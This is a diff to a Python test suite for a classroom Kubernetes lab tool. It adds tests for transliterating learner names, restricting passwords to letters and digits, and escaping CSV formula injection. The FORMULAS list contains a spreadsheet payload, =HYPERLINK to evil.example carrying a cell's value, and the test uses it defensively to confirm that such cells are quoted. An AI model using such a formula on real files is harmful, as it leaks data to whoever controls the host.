@@ -656,7 +656,8 @@ DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
 
 
 def test_names_of_every_kind_give_valid_distinct_namespaces_with_clear_messages(tmp_path):
-    names = ["Ada Lovelace", "Zoë Ünal", "ada lovelace", "李雷", "O'Brien, Mary-Kate", "x" * 80, "x" * 81, "learner-4"]
+    names = ["Ada Lovelace", "Zoë Ünal", "ada lovelace", "🙂", "O'Brien, Mary-Kate", "x" * 80, "x" * 81, "learner-4",
+             "李雷", "Łukasz Żółć", "Øystein Ærø"]
     proc = make_class(tmp_path, names)
     assert proc.returncode == 0, proc.stderr
     rows = roster(tmp_path / "class")
@@ -667,9 +668,12 @@ def test_names_of_every_kind_give_valid_distinct_namespaces_with_clear_messages(
     assert spaces[:5] == ["cookielab-ada-lovelace", "cookielab-zoe-unal", "cookielab-ada-lovelace-2",
                           "cookielab-learner-4", "cookielab-o-brien-mary-kate"]
     assert spaces[7] == "cookielab-learner-4-2"
+    # Transliterated, never dropped: no letter of a name is lost.
+    assert spaces[8:] == ["cookielab-li-lei", "cookielab-lukasz-zolc", "cookielab-oystein-aero"]
     assert "'Zoë Ünal': namespace cookielab-zoe-unal (a namespace takes a-z, 0-9 and -)" in proc.stderr
     assert "'ada lovelace': the namespace cookielab-ada-lovelace is taken; using cookielab-ada-lovelace-2" in proc.stderr
-    assert "'李雷': no letters a-z or digits; namespace cookielab-learner-4" in proc.stderr
+    assert "'🙂': no letters or digits to spell; namespace cookielab-learner-4" in proc.stderr
+    assert "'Łukasz Żółć': namespace cookielab-lukasz-zolc (a namespace takes a-z, 0-9 and -)" in proc.stderr
 
 
 def test_passwords_are_random_and_different_per_learner(tmp_path):
@@ -678,6 +682,8 @@ def test_passwords_are_random_and_different_per_learner(tmp_path):
     assert first.returncode == second.returncode == 0
     passwords = [r["password"] for d in ("1", "2") for r in roster(tmp_path / d / "class")]
     assert len(set(passwords)) == 6 and all(len(p) >= 16 for p in passwords)
+    # Letters and digits only: never a leading `-`, which a shell or a spreadsheet reads as something else.
+    assert all(re.fullmatch(r"[A-Za-z0-9]+", p) for p in passwords)
     listing = tmp_path / "1" / "class" / "roster.csv"
     assert stat.S_IMODE(os.stat(listing).st_mode) == 0o600
 
@@ -776,3 +782,42 @@ def test_the_ingresses_name_the_class_and_send_http_to_https(klass):
     assert len(ingresses) == 9
     assert all(o["spec"]["ingressClassName"] == "nginx" for o in ingresses)
     assert all(o["metadata"]["annotations"]["nginx.ingress.kubernetes.io/force-ssl-redirect"] == "true" for o in ingresses)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?p="&G2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+def test_a_name_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote."""
+    listing = tmp_path / "learners.csv"
+    with open(listing, "w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["name"], *([name] for name in FORMULAS), ["Ada"]])
+    out = tmp_path / "class"
+    args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
+    proc = subprocess.run([sys.executable, str(CLASS), *args], capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 0, proc.stderr
+    rows = roster(out)
+    # read_names strips a name's surrounding blanks, so the tab and CR names start with a letter
+    assert [r["learner"] for r in rows] == ["'" + FORMULAS[0], "'+1+1", "'-2+3", "'@SUM(A1)", "Tab", "CR", "Ada"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+    # Written again with --force: everyone keeps their password, read back through the quote.
+    again = subprocess.run([sys.executable, str(CLASS), *args, "--force"], capture_output=True, text=True, timeout=60)
+    assert again.returncode == 0, again.stderr
+    assert [r["password"] for r in roster(out)] == [r["password"] for r in rows]
+
+
+def test_an_older_rosters_password_that_starts_with_a_dash_is_kept(tmp_path):
+    listing = tmp_path / "learners.txt"
+    listing.write_text("Ada\n", encoding="utf-8")
+    out = tmp_path / "class"
+    args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
+    assert subprocess.run([sys.executable, str(CLASS), *args], capture_output=True, timeout=60).returncode == 0
+    row = roster(out)[0]
+    with open(out / "roster.csv", "w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(row))
+        writer.writeheader()
+        writer.writerow({**row, "password": "-Xy_older"})  # what token_urlsafe could give
+    proc = subprocess.run([sys.executable, str(CLASS), *args, "--force"], capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 0, proc.stderr
+    assert roster(out)[0]["password"] == "'-Xy_older"
+    assert "password=-Xy_older" in (out / "ada" / "kustomization.yaml").read_text(encoding="utf-8")
